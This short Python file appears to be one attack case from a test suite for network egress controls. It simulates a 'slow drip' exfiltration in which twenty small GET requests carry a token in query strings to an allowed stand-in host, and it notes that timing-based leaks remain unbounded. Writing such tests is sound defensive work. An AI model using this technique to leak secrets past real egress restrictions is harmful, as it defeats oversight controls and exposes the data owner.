# SPDX-License-Identifier: Apache-2.0
"""Out in small pieces, in names of files and query strings, over an allowed connection."""
from bypass import get

TITLE = "slow drip in query strings to an allowed host"
THREAT = "65"
FAMILIES = "4"
RESIDUAL = "an allowed host is told what the program likes to tell; budgets bound how much (65b), timing has no bound"


def attack(c):
    with c.step("twenty small requests") as token:
        for i in range(20):
            c.send("ok.test", 80, get("ok.test", f"/?i={i}&{token}", "Connection: close"))
